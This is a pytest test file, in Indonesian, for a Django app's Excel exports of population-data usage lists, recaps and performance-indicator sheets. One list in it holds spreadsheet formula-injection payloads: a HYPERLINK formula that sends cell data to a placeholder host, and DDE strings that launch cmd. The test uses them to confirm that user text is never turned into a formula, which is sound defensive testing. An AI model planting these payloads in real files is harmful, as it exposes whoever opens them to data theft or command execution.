"""Unduhan Excel Daftar dan Laporan: berkas dibuka kembali dengan openpyxl dan angkanya dibandingkan dengan basis data.

Rumus SUM pada Rekap dihitung di sini (evaluator kecil di bawah), bukan dipercaya begitu saja.
"""

import datetime
import io
import re
import tracemalloc
import zipfile
from decimal import Decimal
from urllib.parse import urlencode

import openpyxl
import pytest
from django.db.models import QuerySet
from django.urls import reverse
from django.utils import timezone
from openpyxl.utils import get_column_letter, range_boundaries

from akun.models import Peran
from laporan.exports import sumber, xlsx
from laporan.exports.sumber import JenisKolom, Kolom
from laporan.models import Instansi, RealisasiIku, RekapPemanfaatan, SumberRealisasi
from laporan.selectors import total_rekap
from laporan.services import laporan_transisi
from pemanfaatan.filters import PemanfaatanFilter
from pemanfaatan.models import (
    Bulan,
    JenisOpd,
    JenisPemanfaatan,
    MetodeAkses,
    Opd,
    Pemanfaatan,
    PerjanjianKerjaSama,
)
from pemanfaatan.selectors import pemanfaatan_list, pemanfaatan_ringkasan
from tests.conftest import buat_pengguna
from tests.laporan.conftest import ALASAN, TAHUN, baris_daftar, buat_iku, lampirkan_bukti

pytestmark = pytest.mark.django_db

TIPE_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
NAMA_DINAS = "DINAS PENGENDALIAN PENDUDUK, KELUARGA BERENCANA, KEPENDUDUKAN DAN PENCATATAN SIPIL"
FILTER_TRIWULAN = {"tahun": TAHUN, "bulan_dari": 1, "bulan_sampai": 3}


# --- Membaca berkas kembali ---------------------------------------------------------------------


def buka(isi: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(isi))


def unduh(client, url: str, params: dict | None = None) -> bytes:
    respons = client.get(url + ("?" + urlencode(params) if params else ""))
    assert respons.status_code == 200, respons.status_code
    assert respons["Content-Type"] == TIPE_XLSX
    assert respons["Content-Disposition"].startswith("attachment;")
    return respons.content


def baris_kepala(ws) -> int:
    """Baris judul kolom: tepat di atas panel beku."""
    return int(re.sub(r"[A-Z]", "", ws.freeze_panes)) - 1


def tabel(ws) -> list[dict]:
    kepala = baris_kepala(ws)
    judul = [sel.value for sel in ws[kepala]]
    return [dict(zip(judul, baris, strict=True)) for baris in ws.iter_rows(min_row=kepala + 1, values_only=True)]


def nilai(ws, koordinat: str):
    """Nilai sel; rumus `=SUM(...)` dihitung seperti Excel (teks dan sel kosong diabaikan)."""
    isi = ws[koordinat].value
    if not (isinstance(isi, str) and isi.startswith("=")):
        return isi
    cocok = re.fullmatch(r"=SUM\(([A-Z0-9:,]+)\)", isi)
    assert cocok, f"rumus tak terduga di {koordinat}: {isi}"
    total = 0
    for bagian in cocok.group(1).split(","):
        kolom_awal, baris_awal, kolom_akhir, baris_akhir = range_boundaries(bagian)
        for baris in range(baris_awal, baris_akhir + 1):
            for kolom in range(kolom_awal, kolom_akhir + 1):
                angka = nilai(ws, f"{get_column_letter(kolom)}{baris}")
                if isinstance(angka, int | float) and not isinstance(angka, bool):
                    total += angka
    return total


def rekap_terhitung(ws) -> tuple[dict[str, dict], dict]:
    """Baris Rekap per nama OPD dan baris TOTAL, dengan setiap rumus sudah dihitung."""
    kepala = baris_kepala(ws)
    judul = [sel.value for sel in ws[kepala]]
    per_opd, total = {}, None
    for nomor in range(kepala + 1, ws.max_row + 1):
        baris = {judul[k - 1]: nilai(ws, f"{get_column_letter(k)}{nomor}") for k in range(1, len(judul) + 1)}
        if baris["Kode OPD"] == "TOTAL":
            total = baris
        else:
            per_opd[baris["Nama OPD"]] = baris
    assert total is not None, "baris TOTAL tidak ada"
    return per_opd, total


def xml_lembar(isi: bytes) -> dict[str, str]:
    """XML mentah setiap lembar menurut namanya (xl/workbook.xml → relasinya → xl/worksheets/sheetN.xml)."""
    with zipfile.ZipFile(io.BytesIO(isi)) as berkas:
        buku = berkas.read("xl/workbook.xml").decode()
        relasi = berkas.read("xl/_rels/workbook.xml.rels").decode()
        target = dict(re.findall(r'<Relationship[^>]*Id="([^"]+)"[^>]*Target="([^"]+)"', relasi))
        target.update({i: t for t, i in re.findall(r'<Relationship[^>]*Target="([^"]+)"[^>]*Id="([^"]+)"', relasi)})
        hasil = {}
        for nama, rid in re.findall(r'<sheet [^>]*name="([^"]+)"[^>]*r:id="([^"]+)"', buku):
            jalur = target[rid].lstrip("/")
            hasil[nama] = berkas.read(jalur if jalur.startswith("xl/") else f"xl/{jalur}").decode()
        return hasil


RUMUS_SUM = re.compile(r"SUM\([A-Z]+\d+(?::[A-Z]+\d+)?(?:,[A-Z]+\d+)*\)")


def rumus_dalam(xml: str) -> list[str]:
    return re.findall(r"<f(?:\s[^>]*)?>(.*?)</f>", xml) + re.findall(r"<f(?:\s[^>]*)?/>", xml)


# --- Daftar menurut filter ----------------------------------------------------------------------


def daftar_diharapkan(user, params: dict) -> QuerySet[Pemanfaatan]:
    return PemanfaatanFilter(params, queryset=pemanfaatan_list(user=user)).qs


def test_daftar_berisi_tepat_baris_yang_difilter(client, kabid, daftar_triwulan, staf):
    # Dua berkas pada satu baris: jumlah data dukung 2, dan jumlahnya tidak boleh ikut berlipat.
    lampirkan_bukti(daftar_triwulan["nik_feb"], staf)
    client.force_login(kabid)
    respons = client.get(reverse("laporan:ekspor_daftar") + "?" + urlencode(FILTER_TRIWULAN))
    assert 'filename="Daftar Pemanfaatan 2026.xlsx"' in respons["Content-Disposition"]
    ws = buka(respons.content)["Daftar"]
    baris = tabel(ws)

    diharapkan = daftar_diharapkan(kabid, FILTER_TRIWULAN)
    assert len(baris) == diharapkan.count() == 6
    per_keperluan = {(b["Kode OPD"], b["Jenis pemanfaatan"], b["Bulan"]): b for b in baris}
    for objek in diharapkan:
        b = per_keperluan[(objek.opd.kode, objek.get_jenis_display(), objek.get_bulan_display())]
        assert b["Tahun"] == objek.tahun
        assert b["Nama OPD"] == objek.opd.nama
        assert b["Keperluan"] == objek.keperluan
        assert b["Metode akses"] == objek.get_metode_akses_display()
        assert (b["Nomor PKS"] or "") == (objek.pks.nomor if objek.pks else "")
        assert b["Jumlah"] == objek.jumlah
        assert (b["Keterangan"] or "") == objek.keterangan
        assert b["Data dukung (berkas)"] == objek.data_dukung.count()
        assert b["Diubah oleh"] == objek.updated_by.nama
        lokal = timezone.localtime(objek.updated_at).replace(tzinfo=None)
        assert abs(b["Diubah pada"] - lokal) < datetime.timedelta(seconds=1)

    # Status PKS ditulis tangan dari keterangan bahan uji.
    status = {(b["Nama OPD"], b["Jenis pemanfaatan"]): b["Status PKS"] for b in baris}
    assert status[("Dinas Kesehatan", "Pemanfaatan KTP-el")] == "PKS tidak mencakup jenis ini"
    assert status[("Dinas Sosial", "Pemanfaatan KTP-el")] == "Tanpa PKS"
    assert status[("RSUD M. Natsir", "Pemanfaatan NIK")] == "PKS tidak berlaku pada bulan itu"
    assert status[("Dinas Kesehatan", "Pemanfaatan Data Kependudukan")] == "PKS sah"
    assert {b["Data dukung (berkas)"] for b in baris if b["Bulan"] == "Februari" and b["Jumlah"] == 250} == {2}


def test_daftar_menyimpan_angka_dan_tanggal_sungguhan_berformat_indonesia(client, kabid, daftar_triwulan):
    client.force_login(kabid)
    ws = buka(unduh(client, reverse("laporan:ekspor_daftar"), FILTER_TRIWULAN))["Daftar"]
    kepala = baris_kepala(ws)
    judul = [sel.value for sel in ws[kepala]]
    pertama = ws[kepala + 1]
    jumlah = pertama[judul.index("Jumlah")]
    assert isinstance(jumlah.value, int) and jumlah.number_format == "#,##0"
    assert pertama[judul.index("Data dukung (berkas)")].number_format == "#,##0"
    assert isinstance(pertama[judul.index("Tahun")].value, int)
    waktu = pertama[judul.index("Diubah pada")]
    assert waktu.is_date and isinstance(waktu.value, datetime.datetime)
    assert "d mmmm yyyy" in waktu.number_format


def test_daftar_tanpa_filter_berisi_semua_baris_dan_bernama_tanpa_tahun(client, staf, daftar_triwulan):
    client.force_login(staf)
    respons = client.get(reverse("laporan:ekspor_daftar"))
    assert 'filename="Daftar Pemanfaatan.xlsx"' in respons["Content-Disposition"]
    assert len(tabel(buka(respons.content)["Daftar"])) == Pemanfaatan.objects.count() == 8


@pytest.mark.parametrize(
    "params",
    [
        FILTER_TRIWULAN,
        {"tahun": TAHUN, "jenis": JenisPemanfaatan.NIK, "ada_data_dukung": "true"},
        {"status_pks": "TANPA_PKS"},
        {"tahun": TAHUN, "bulan": 2, "urut": "-jumlah"},
        {},
    ],
)
def test_rekap_sum_sama_dengan_total_halaman_daftar(client, kabid, daftar_triwulan, staf, params):
    # Baris berberkas ganda: penggabungan dengan data dukung tidak boleh melipatgandakan hitungan Rekap.
    lampirkan_bukti(daftar_triwulan["nik_feb"], staf)
    lampirkan_bukti(daftar_triwulan["nik_apr"], staf)
    client.force_login(kabid)
    buku = buka(unduh(client, reverse("laporan:ekspor_daftar"), params))
    per_opd, total = rekap_terhitung(buku["Rekap"])
    daftar = daftar_diharapkan(kabid, params)
    ringkasan = pemanfaatan_ringkasan(daftar=daftar)

    assert total["Total jumlah"] == ringkasan["total_jumlah"]
    assert total["Total kegiatan"] == ringkasan["jumlah_baris"]
    for jenis in JenisPemanfaatan:
        assert total[f"{jenis.label}: jumlah"] == ringkasan[f"total_{jenis.value.lower()}"]
        assert total[f"{jenis.label}: kegiatan"] == daftar.filter(jenis=jenis).count()
    assert len(per_opd) == ringkasan["jumlah_opd"]
    for nama, baris in per_opd.items():
        milik_opd = daftar.filter(opd__nama=nama)
        assert baris["Total kegiatan"] == milik_opd.count()
        assert baris["Total jumlah"] == sum(milik_opd.values_list("jumlah", flat=True))
    # Daftar pada buku yang sama berisi baris yang sama dengan yang direkap.
    assert len(tabel(buku["Daftar"])) == ringkasan["jumlah_baris"]


def test_rekap_memakai_rumus_sum_yang_hidup(client, kabid, daftar_triwulan):
    client.force_login(kabid)
    ws = buka(unduh(client, reverse("laporan:ekspor_daftar"), FILTER_TRIWULAN))["Rekap"]
    kepala = baris_kepala(ws)
    pertama, terakhir = kepala + 1, ws.max_row - 1
    judul = [sel.value for sel in ws[kepala]]
    kolom_total = get_column_letter(judul.index("Total jumlah") + 1)
    assert ws[f"{kolom_total}{pertama}"].value == f"=SUM(D{pertama},F{pertama},H{pertama})"
    assert ws[f"{kolom_total}{ws.max_row}"].value == f"=SUM({kolom_total}{pertama}:{kolom_total}{terakhir})"
    assert ws[f"A{ws.max_row}"].value == "TOTAL"
    assert ws[f"C{ws.max_row}"].number_format == "#,##0"


def test_filter_dan_periode_tertulis_di_daftar(client, kabid, daftar_triwulan, opd):
    client.force_login(kabid)
    params = {**FILTER_TRIWULAN, "opd": opd.pk, "jenis": JenisPemanfaatan.NIK}
    buku = buka(unduh(client, reverse("laporan:ekspor_daftar"), params))
    judul = [buku["Daftar"].cell(nomor, 1).value for nomor in range(1, baris_kepala(buku["Daftar"]))]
    assert judul[0] == NAMA_DINAS
    assert "Periode: Januari–Maret 2026" in judul
    assert "Filter: OPD: Dinas Kesehatan; Jenis pemanfaatan: Pemanfaatan NIK" in judul
    info = {b["Keterangan"]: b["Isi"] for b in tabel(buku["Info"])}
    assert info["Periode"] == "Januari–Maret 2026"


# --- Lembar siap cetak --------------------------------------------------------------------------


@pytest.mark.parametrize("nama_lembar", ["Daftar", "Rekap", "IKU", "Info"])
def test_setiap_lembar_siap_dicetak_dan_disaring(client, kabid, daftar_triwulan, buat_laporan, nama_lembar):
    buat_iku("IKU-01", SumberRealisasi.TOTAL_NIK)
    laporan = buat_laporan("lakip_dinas")
    client.force_login(kabid)
    ws = buka(unduh(client, reverse("laporan:ekspor_laporan", args=[laporan.pk])))[nama_lembar]
    kepala = baris_kepala(ws)
    assert ws["A1"].value == NAMA_DINAS and ws["A1"].font.b
    assert ws.freeze_panes == f"A{kepala + 1}"
    assert ws.print_title_rows == f"${kepala}:${kepala}"
    assert ws.page_setup.orientation == "landscape"
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.oddHeader.center.text == NAMA_DINAS
    assert "&P" in ws.oddFooter.right.text and "&N" in ws.oddFooter.right.text
    jumlah_kolom = len([sel for sel in ws[kepala] if sel.value is not None])
    baris_data_akhir = ws.max_row - 1 if nama_lembar == "Rekap" else ws.max_row
    assert ws.auto_filter.ref == f"A{kepala}:{get_column_letter(jumlah_kolom)}{baris_data_akhir}"
    assert all(ws.column_dimensions[get_column_letter(k)].width >= 7 for k in range(1, jumlah_kolom + 1))
    assert ws[f"A{kepala}"].font.b


def test_ampersand_nama_dinas_tidak_menjadi_kode_kepala_halaman(client, kabid, daftar_triwulan):
    instansi = Instansi.sekarang()
    instansi.nama_dinas = "Dinas Kependudukan & Pencatatan Sipil"
    instansi.save()
    client.force_login(kabid)
    isi = unduh(client, reverse("laporan:ekspor_daftar"))
    ws = buka(isi)["Daftar"]
    assert ws["A1"].value == "Dinas Kependudukan & Pencatatan Sipil"
    assert ws.oddHeader.center.text == "Dinas Kependudukan && Pencatatan Sipil"  # `&&` dicetak sebagai `&`


# --- Laporan: dari hitungan beku ----------------------------------------------------------------


def test_laporan_dari_hitungan_beku_langkah_4(client, kasi, daftar_triwulan, buat_laporan):
    laporan = buat_laporan("laporan")
    client.force_login(kasi)
    respons = client.get(reverse("laporan:ekspor_laporan", args=[laporan.pk]))
    assert respons.status_code == 200
    assert 'filename="Daftar dan Rekap Pemanfaatan Triwulan I 2026.xlsx"' in respons["Content-Disposition"]
    buku = buka(respons.content)
    assert buku.sheetnames == ["Daftar", "Rekap", "Info"]  # IKU baru ada setelah Langkah 6

    daftar = tabel(buku["Daftar"])
    periode = Pemanfaatan.objects.filter(tahun=TAHUN, bulan__lte=3)
    assert len(daftar) == periode.count() == 6
    assert [b["Bulan"] for b in daftar] == sorted((b["Bulan"] for b in daftar), key=sumber.NAMA_BULAN.index)
    assert sum(b["Jumlah"] for b in daftar) == sum(periode.values_list("jumlah", flat=True)) == 420

    per_opd, total = rekap_terhitung(buku["Rekap"])
    beku = total_rekap(laporan=laporan)
    assert total["Total jumlah"] == beku["semua_jumlah"] == 420
    assert total["Total kegiatan"] == beku["semua_kegiatan"] == 6
    for label, jumlah in beku["per_jenis"]:
        assert total[f"{label}: jumlah"] == jumlah
    for rekap in RekapPemanfaatan.objects.filter(laporan=laporan).select_related("opd"):
        label = rekap.get_jenis_display()
        assert per_opd[rekap.opd.nama][f"{label}: kegiatan"] == rekap.jumlah_kegiatan
        assert per_opd[rekap.opd.nama][f"{label}: jumlah"] == rekap.total_jumlah
    # Angka tulis tangan dari bahan uji: Dinas Kesehatan NIK 350 (2 baris), Dinas Sosial KTP-el 7, RSUD NIK 20.
    assert per_opd["Dinas Kesehatan"]["Pemanfaatan NIK: jumlah"] == 350
    assert per_opd["Dinas Kesehatan"]["Pemanfaatan NIK: kegiatan"] == 2
    assert per_opd["Dinas Sosial"]["Total jumlah"] == 7
    assert per_opd["RSUD M. Natsir"]["Total jumlah"] == 20


def test_rekap_laporan_dibaca_dari_hitungan_beku_bukan_daftar_hari_ini(client, kasi, daftar_triwulan, buat_laporan):
    laporan = buat_laporan("laporan")
    # Hitungan beku adalah sumbernya: bila berbeda dari Daftar, lembar Rekap mengikuti hitungan beku.
    RekapPemanfaatan.objects.filter(laporan=laporan, opd__nama="Dinas Sosial").update(total_jumlah=70)
    client.force_login(kasi)
    per_opd, total = rekap_terhitung(buka(unduh(client, reverse("laporan:ekspor_laporan", args=[laporan.pk])))["Rekap"])
    assert per_opd["Dinas Sosial"]["Total jumlah"] == 70
    assert total["Total jumlah"] == total_rekap(laporan=laporan)["semua_jumlah"] == 483


def test_iku_setelah_langkah_6(client, sekretariat, daftar_triwulan, buat_laporan):
    buat_iku("IKU-01", SumberRealisasi.TOTAL_NIK, target="400", urutan=1)
    buat_iku("IKU-02", SumberRealisasi.MANUAL, target="80", urutan=2)
    laporan = buat_laporan("lakip_dinas")
    client.force_login(sekretariat)
    buku = buka(unduh(client, reverse("laporan:ekspor_laporan", args=[laporan.pk])))
    assert buku.sheetnames == ["Daftar", "Rekap", "IKU", "Info"]
    ws = buku["IKU"]
    baris = tabel(ws)
    realisasi = list(RealisasiIku.objects.filter(laporan=laporan).select_related("iku"))
    assert [b["Kode"] for b in baris] == [r.iku.kode for r in realisasi] == ["IKU-01", "IKU-02"]
    for b, r in zip(baris, realisasi, strict=True):
        assert b["Indikator kinerja"] == r.iku.nama and b["Satuan"] == r.iku.satuan
        assert Decimal(str(b["Target"])) == r.target
        assert Decimal(str(b["Realisasi"])) == r.realisasi
        assert Decimal(str(b["Capaian (%)"])) == r.capaian
    # Realisasi 1 dari target 400 dan 80 (isian uji): capaian 0,25% dan 1,25%.
    assert [b["Capaian (%)"] for b in baris] == [0.25, 1.25]
    # IKU-01 dihitung 370 (NIK: 100 + 250 + 20) dari hitungan beku lalu dikoreksi menjadi 1 oleh isian uji.
    assert baris[0]["Catatan koreksi"] == "Dikoreksi dari 370,00: Diisi manual untuk uji."
    assert baris[1]["Catatan koreksi"] is None
    kepala = baris_kepala(ws)
    judul = [sel.value for sel in ws[kepala]]
    for nama in ("Target", "Realisasi", "Capaian (%)"):
        assert ws.cell(kepala + 1, judul.index(nama) + 1).number_format == "#,##0.00"


def test_info_menyebut_instansi_periode_status_dan_pembuat(client, kabid, daftar_triwulan, buat_laporan, jam):
    laporan = buat_laporan("laporan")
    jam.atur("2026-05-04 14:05")
    client.force_login(kabid)
    info = {
        b["Keterangan"]: b["Isi"]
        for b in tabel(buka(unduh(client, reverse("laporan:ekspor_laporan", args=[laporan.pk])))["Info"])
    }
    assert info["Pemerintah"] == "PEMERINTAH PROVINSI SUMATERA BARAT"
    assert info["Dinas"] == NAMA_DINAS
    assert info["Bidang"] == "Bidang PIAK dan Pemanfaatan Data"
    assert info["Periode"] == "Triwulan I Tahun 2026 (Januari – Maret 2026)"
    assert info["Laporan"] == "Laporan Triwulan I 2026"
    assert info["Status Laporan"] == "Analisa dan Laporan Kasi"
    assert info["Dibuat pada"] == "4 Mei 2026 pukul 14.05 WIB"
    assert info["Dibuat oleh"] == "Kabid"
    assert info["NIP"] == "19680415 198902 1 001"
    assert info["Dihitung oleh"] == "Staf"
    assert (info["OPD aktif"], info["OPD yang memanfaatkan data"]) == (laporan.jumlah_opd_aktif, 3)


@pytest.mark.parametrize("status", ["disposisi_kabid", "daftar", "hitung"])
def test_laporan_tanpa_hitungan_beku_belum_tersedia(client, kabid, buat_laporan, status):
    laporan = buat_laporan(status)
    client.force_login(kabid)
    respons = client.get(reverse("laporan:ekspor_laporan", args=[laporan.pk]), follow=True)
    assert respons.redirect_chain == [(laporan.get_absolute_url(), 302)]
    assert "Daftar dan Rekap Excel belum tersedia" in respons.content.decode()
    assert respons["Content-Type"].startswith("text/html")


def test_laporan_dibatalkan_setelah_langkah_4_tidak_tersedia(client, kabid, daftar_triwulan, buat_laporan):
    laporan = laporan_transisi(laporan=buat_laporan("laporan"), aksi="batalkan", user=kabid, data={"alasan": ALASAN})
    assert laporan.dihitung_pada is None  # pembatalan melepas hitungan beku
    client.force_login(kabid)
    respons = client.get(reverse("laporan:ekspor_laporan", args=[laporan.pk]))
    assert respons.status_code == 302 and respons.url == laporan.get_absolute_url()


def test_laporan_xlsx_tanpa_daftar_pengguna_untuk_arsip(client, kabid, daftar_triwulan, buat_laporan):
    """Arsip Langkah 7 memanggil `laporan_xlsx(laporan=, user=)` tanpa selektor: isinya sama dengan unduhan."""
    laporan = buat_laporan("lakip_dinas")
    arsip = buka(xlsx.laporan_xlsx(laporan=laporan, user=kabid))
    client.force_login(kabid)
    unduhan = buka(unduh(client, reverse("laporan:ekspor_laporan", args=[laporan.pk])))
    assert arsip.sheetnames == unduhan.sheetnames == ["Daftar", "Rekap", "IKU", "Info"]
    for nama in ("Daftar", "Rekap", "IKU"):
        assert list(arsip[nama].values) == list(unduhan[nama].values)


def test_laporan_tidak_ada_404(client, kabid):
    client.force_login(kabid)
    assert client.get(reverse("laporan:ekspor_laporan", args=[999])).status_code == 404


# --- Teks pengguna tidak pernah menjadi rumus ---------------------------------------------------

TEKS_BERBAHAYA = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def dibaca_openpyxl(teks: str) -> str:
    """XML 1.0 menormalkan CR mentah menjadi LF saat dibaca; penulis lxml menyimpannya sebagai &#13; (utuh)."""
    if openpyxl.LXML:
        return teks
    return teks.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("teks", TEKS_BERBAHAYA, ids=["sama-dengan", "plus", "minus", "at", "tab", "cr"])
def test_teks_pengguna_tidak_menjadi_rumus(client, db, teks):
    pengisi = buat_pengguna("pengisi", Peran.STAF, nama=f"{teks} (staf)")
    pengunduh = buat_pengguna("pengunduh", Peran.KABID, nama=teks)
    kode = teks[:30]  # kode OPD paling panjang 40 karakter
    opd = Opd.objects.create(kode=kode, nama=teks, jenis=JenisOpd.DINAS)
    pks = PerjanjianKerjaSama.objects.create(
        nomor=teks,
        opd=opd,
        tanggal=datetime.date(2025, 1, 2),
        berlaku_mulai=datetime.date(2025, 1, 2),
        berlaku_sampai=datetime.date(2030, 1, 1),
        lingkup_nik=True,
    )
    Pemanfaatan.objects.create(
        opd=opd,
        jenis=JenisPemanfaatan.NIK,
        tahun=TAHUN,
        bulan=1,
        keperluan=teks,
        metode_akses=MetodeAkses.WEB_SERVICE,
        pks=pks,
        jumlah=5,
        keterangan=teks,
        created_by=pengisi,
        updated_by=pengisi,
    )
    client.force_login(pengunduh)
    isi = unduh(client, reverse("laporan:ekspor_daftar"), {"cari": teks})

    # Satu-satunya rumus adalah SUM Rekap yang ditulis aplikasi; tidak ada <f> di lembar lain.
    for nama, xml in xml_lembar(isi).items():
        rumus = rumus_dalam(xml)
        if nama == "Rekap":
            assert rumus and all(RUMUS_SUM.fullmatch(r) for r in rumus), rumus
        else:
            assert rumus == [], (nama, rumus)

    buku = buka(isi)
    dibaca = dibaca_openpyxl(teks)
    daftar = buku["Daftar"]
    kepala = baris_kepala(daftar)
    judul = [sel.value for sel in daftar[kepala]]
    for kolom, harapan in [
        ("Kode OPD", dibaca_openpyxl(kode)),
        ("Nama OPD", dibaca),
        ("Keperluan", dibaca),
        ("Nomor PKS", dibaca),
        ("Keterangan", dibaca),
        ("Diubah oleh", f"{dibaca} (staf)"),
    ]:
        sel = daftar.cell(kepala + 1, judul.index(kolom) + 1)
        assert (sel.value, sel.data_type, sel.quotePrefix) == (harapan, "s", True), kolom
    rekap = buku["Rekap"]
    nama_opd = rekap.cell(baris_kepala(rekap) + 1, 2)
    assert (nama_opd.value, nama_opd.data_type, nama_opd.quotePrefix) == (dibaca, "s", True)
    info = buku["Info"]
    isi_info = {b["Keterangan"]: b["Isi"] for b in tabel(info)}
    assert isi_info["Dibuat oleh"] == dibaca
    assert isi_info["Filter"] == f"Cari keperluan: {teks.strip()}"  # isian filter dipangkas formulir
    assert next(sel for sel in info["B"] if sel.value == dibaca).quotePrefix is True


def test_teks_mirip_galat_dan_karakter_kendali_tetap_teks(client, kabid, opd, staf):
    baris_daftar(opd, JenisPemanfaatan.NIK, 1, 9, keperluan="#N/A", oleh=staf)
    # NUL ditolak formulir (dan PostgreSQL); karakter kendali lain bisa tersimpan, mis. lewat impor.
    baris_daftar(opd, JenisPemanfaatan.NIK, 2, 9, keperluan="Layanan\x07 berbunyi\x1b", oleh=staf)
    client.force_login(kabid)
    baris = tabel(buka(unduh(client, reverse("laporan:ekspor_daftar"), {"urut": "bulan"}))["Daftar"])
    # Karakter kendali tidak dapat disimpan dalam XML lembar kerja; sisanya utuh, berkas tetap terbuat.
    assert [b["Keperluan"] for b in baris] == ["#N/A", "Layanan berbunyi"]
    ws = buka(unduh(client, reverse("laporan:ekspor_daftar"), {"urut": "bulan"}))["Daftar"]
    assert ws.cell(baris_kepala(ws) + 1, 6).data_type == "s"  # bukan sel galat #N/A


# --- Izin ---------------------------------------------------------------------------------------

# Ditulis tangan: siapa boleh mengunduh apa. Semua peran boleh membaca Daftar dan Laporan.
MATRIKS_IZIN = [
    ("anonim", 302),
    ("tanpa_peran", 403),
    ("kabid", 200),
    ("kasi", 200),
    ("staf", 200),
    ("sekretariat", 200),
]


@pytest.mark.parametrize(("peran", "status"), MATRIKS_IZIN)
@pytest.mark.parametrize("unduhan", ["daftar", "laporan"])
def test_izin_unduhan(client, pemeran, daftar_triwulan, buat_laporan, peran, status, unduhan):
    if unduhan == "daftar":
        url = reverse("laporan:ekspor_daftar")
    else:
        url = reverse("laporan:ekspor_laporan", args=[buat_laporan("laporan").pk])
    if peran != "anonim":
        client.force_login(pemeran[peran])
    respons = client.get(url)
    assert respons.status_code == status
    if status == 302:
        assert respons.url.startswith(reverse("login"))
    if status == 200:
        assert respons["Content-Type"] == TIPE_XLSX


def test_hanya_get(client, kabid):
    client.force_login(kabid)
    assert client.post(reverse("laporan:ekspor_daftar")).status_code == 405


# --- Tombol di halaman --------------------------------------------------------------------------


@pytest.mark.parametrize("peran", ["kabid", "kasi", "staf", "sekretariat"])
def test_tombol_unduh_excel_di_daftar_membawa_filter(client, pemeran, peran):
    client.force_login(pemeran[peran])
    isi = client.get(reverse("pemanfaatan:daftar") + "?tahun=2026&jenis=NIK").content.decode()
    assert "Unduh Excel" in isi
    assert f'href="{reverse("laporan:ekspor_daftar")}?tahun=2026&amp;jenis=NIK"' in isi


def test_tautan_excel_laporan_hanya_setelah_hitungan_beku(client, kasi, daftar_triwulan, buat_laporan):
    client.force_login(kasi)
    belum = buat_laporan("hitung")
    assert "Unduh Daftar dan Rekap (Excel)" not in client.get(belum.get_absolute_url()).content.decode()
    laporan_transisi(laporan=belum, aksi="batalkan", user=belum.dibuat_oleh, data={"alasan": ALASAN})
    sudah = buat_laporan("laporan")
    isi = client.get(sudah.get_absolute_url()).content.decode()
    assert "Unduh Daftar dan Rekap (Excel)" in isi
    assert reverse("laporan:ekspor_laporan", args=[sudah.pk]) in isi


# --- Banyak baris: diambil per potongan, tidak ditampung sekaligus ------------------------------


def isi_daftar_massal(opd, staf, banyak: int) -> None:
    jenis = list(JenisPemanfaatan.values)
    Pemanfaatan.objects.bulk_create(
        Pemanfaatan(
            opd=opd,
            jenis=jenis[i % 3],
            tahun=TAHUN,
            bulan=1 + i % 12,
            keperluan=f"Layanan ke-{i}",
            metode_akses=MetodeAkses.WEB_SERVICE,
            jumlah=i,
            keterangan="Surat OPD nomor 470/123/2026 tentang pemanfaatan data kependudukan",
            created_by=staf,
            updated_by=staf,
        )
        for i in range(banyak)
    )


def test_ekspor_banyak_baris_diambil_per_potongan(client, kabid, opd, staf, monkeypatch):
    isi_daftar_massal(opd, staf, 3000)
    panggilan = []
    iterator_asli = QuerySet.iterator

    def iterator_diamati(self, chunk_size=None):
        panggilan.append((self.model, chunk_size))
        return iterator_asli(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", iterator_diamati)
    client.force_login(kabid)
    isi = unduh(client, reverse("laporan:ekspor_daftar"), {"tahun": TAHUN})
    assert (Pemanfaatan, sumber.UKURAN_POTONGAN) in panggilan
    assert sumber.UKURAN_POTONGAN == 2000
    # Mode baca-saja agar pembacaan kembali 3.000 baris tetap cepat.
    buku = openpyxl.load_workbook(io.BytesIO(isi), read_only=True)
    baris = buku["Daftar"].iter_rows(values_only=True)
    for judul in baris:
        if judul and judul[0] == "Tahun":
            break
    jumlah = [b[judul.index("Jumlah")] for b in baris]
    assert len(jumlah) == 3000 and sum(jumlah) == sum(range(3000))


def test_sumber_daftar_tidak_menampung_semua_baris(kabid, opd, staf, monkeypatch):
    """Puncak memori saat mengalirkan 3.000 baris per 200 jauh di bawah puncak saat menampung semuanya."""
    isi_daftar_massal(opd, staf, 3000)
    monkeypatch.setattr(sumber, "UKURAN_POTONGAN", 200)
    daftar = pemanfaatan_list(user=kabid).order_by("pk")

    tracemalloc.start()
    try:
        banyak = sum(1 for _ in sumber.baris_daftar(daftar))
        _, puncak_alir = tracemalloc.get_traced_memory()
        tracemalloc.reset_peak()
        semua = list(sumber.baris_daftar(daftar))
        _, puncak_tampung = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert banyak == len(semua) == 3001  # judul kolom + 3.000 baris
    assert puncak_alir < puncak_tampung / 3, (puncak_alir, puncak_tampung)


def test_setiap_jenis_nilai_ditulis_sebagai_sel_yang_sesuai(db):
    """Satu pengubah per kolom untuk Daftar dan Rekap: tanggal, waktu (jam dinding WIB), angka, pilihan, teks."""
    buku = xlsx.BukuKerja(instansi=Instansi.sekarang(), judul="Uji", pembuat="uji")
    kolom = (
        Kolom("Tanggal", JenisKolom.WAKTU, 12),
        Kolom("Waktu", JenisKolom.WAKTU, 18),
        Kolom("Jumlah", JenisKolom.ANGKA, 10),
        Kolom("Bulan", JenisKolom.ANGKA, 10),
        Kolom("Jenis", JenisKolom.TEKS, 20),
        Kolom("Aktif", JenisKolom.TEKS, 8),
    )
    waktu = datetime.datetime(2026, 5, 4, 1, 5, tzinfo=datetime.UTC)  # 08.05 WIB
    baris = iter([kolom, (datetime.date(2026, 5, 4), waktu, Decimal("12.5"), Bulan.MEI, JenisPemanfaatan.NIK, True)])
    buku.tabel("Uji", baris, judul=["Uji"])
    ws = openpyxl.load_workbook(io.BytesIO(buku.sebagai_byte()))["Uji"]
    sel = next(r for r in ws.iter_rows(min_row=1) if r[0].is_date)
    assert sel[0].value == datetime.datetime(2026, 5, 4) and sel[0].number_format == xlsx.FORMAT_TANGGAL
    assert sel[1].value == datetime.datetime(2026, 5, 4, 8, 5) and sel[1].number_format == xlsx.FORMAT_WAKTU
